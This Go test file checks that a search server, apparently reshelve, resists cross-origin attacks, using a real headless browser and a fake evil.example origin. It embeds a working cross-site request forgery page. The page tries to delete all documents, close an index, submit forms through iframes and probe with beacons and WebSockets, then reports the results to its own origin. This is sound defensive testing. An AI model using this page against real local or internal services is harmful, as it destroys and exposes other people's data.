package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/reshelve/reshelve/internal/control"
)

// attack is a page that tries what pages can do to a server, and tells its own server what came of it.
const attack = `<!doctype html><body><script>
const at = %q, came = {};
const read = (name, path, options) => fetch(at + path, options).then(async r => { came[name] = r.type + " " + r.status + " " + (await r.text()).slice(0, 60) }, e => { came[name] = "blocked" });
const frame = (html, sandbox) => new Promise(done => { const f = document.createElement("iframe"); if (sandbox) f.sandbox = sandbox; f.srcdoc = html; f.onload = () => setTimeout(done, 700); document.body.append(f) });
(async () => {
  await read("simple", "/_all/_delete_by_query?q=*", {method: "POST", mode: "no-cors"});
  await read("text", "/kept/_doc/2", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "{}"});
  await read("close", "/kept/_close", {method: "POST", mode: "no-cors"});
  await read("order", "/_reshelve/movements", {method: "POST", mode: "no-cors", body: '{"kind":"split","index":"kept","by":2}'});
  await read("get", "/kept/_search", {});
  await read("put", "/kept/_doc/3", {method: "PUT", headers: {"Content-Type": "application/json"}, body: '{"n":3}'});
  await read("record", "/_reshelve/coord/records?prefix=movements/", {});
  navigator.sendBeacon(at + "/_all/_delete_by_query?q=*", "x");
  await frame('<form method=post enctype=text/plain action="' + at + '/_all/_delete_by_query?q=*"><input name=x></form><script>document.forms[0].submit()<\/script>');
  await frame('<form method=post action="' + at + '/kept/_close"></form><script>document.forms[0].submit()<\/script>', "allow-scripts allow-forms");
  await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = at + "/_flush" });
  await new Promise(done => { const s = new WebSocket(at.replace("http", "ws") + "/_search"); s.onerror = s.onopen = done });
  await fetch("/came", {method: "POST", body: JSON.stringify(came)});
})();
</script>`

// browse shows a page in a real browser, headless, for which the name evil.example means this machine.
func browse(t *testing.T, url string) {
	t.Helper()
	browser, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatal("chromium is not installed; on Debian: apt-get install chromium")
	}
	ctx, stop := context.WithTimeout(t.Context(), 2*time.Minute)
	cmd := exec.CommandContext(ctx, browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--remote-debugging-port=0", "--host-resolver-rules=MAP evil.example 127.0.0.1", "--user-data-dir="+filepath.Join(t.TempDir(), "profile"), url)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		stop()
		_ = cmd.Wait()
		time.Sleep(200 * time.Millisecond) // its children leave its profile
	})
}

// TestLiveAPageOfAnotherOrigin: what a real browser sends for a page of another origin changes and reads nothing, and
// all of it for one that was let in; and a name that is made to mean this machine reads nothing.
func TestLiveAPageOfAnotherOrigin(t *testing.T) {
	if os.Getenv("RESHELVE_LIVE") == "" {
		t.Skip("RESHELVE_LIVE=1 starts a real browser")
	}
	for _, let := range []bool{false, true} {
		t.Run(fmt.Sprintf("let in %v", let), func(t *testing.T) {
			var at string
			told := make(chan map[string]string, 1)
			page := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path != "/came" {
					w.Header().Set("Content-Type", "text/html")
					fmt.Fprintf(w, attack, at)
					return
				}
				came := map[string]string{}
				_ = json.NewDecoder(r.Body).Decode(&came)
				told <- came
			}))
			_, port, _ := net.SplitHostPort(page.Listener.Addr().String())
			origin := "http://evil.example:" + port
			req := control.ServeRequest{Data: filepath.Join(t.TempDir(), "data"), Listen: "127.0.0.1:0", Logger: slog.New(slog.DiscardHandler)}
			if let {
				origin = "http://localhost:" + port
				req.AllowOrigins = []string{origin}
			}
			ctx, stop := context.WithCancel(t.Context())
			ready, ended := make(chan string, 1), make(chan error, 1)
			go func() {
				ended <- control.New(wiring).Serve(ctx, req, func(s control.Serving) { ready <- s.Address })
			}()
			defer func() { stop(); <-ended }()
			at = <-ready
			ask := func(method, path, body string) string {
				request, _ := http.NewRequestWithContext(t.Context(), method, at+path, strings.NewReader(body))
				request.Header.Set("Content-Type", "application/json")
				response, err := http.DefaultClient.Do(request)
				if err != nil {
					t.Fatal(err)
				}
				defer response.Body.Close()
				text, _ := io.ReadAll(response.Body)
				return string(text)
			}
			ask("PUT", "/kept/_doc/1?refresh=true", `{"n":1}`)
			page.Start()
			defer page.Close()
			browse(t, origin+"/")
			var came map[string]string
			select {
			case came = <-told:
			case <-time.After(time.Minute):
				t.Fatal("the page tells nothing")
			}
			t.Logf("%v", came)
			count := ask("GET", "/kept/_count?filter_path=count", "")
			if !let && (count != `{"count":1}` || came["get"] != "blocked" || came["put"] != "blocked" || came["record"] != "blocked") {
				t.Errorf("the page reached the server: %s, %v", count, came)
			}
			if let && (!strings.Contains(count, "index_closed_exception") || !strings.HasPrefix(came["put"], "cors 400") || !strings.HasPrefix(came["record"], "cors 200")) {
				t.Errorf("the page was let in, and has not closed the index, or cannot read what it is told: %s, %v", count, came)
			}
		})
	}
}
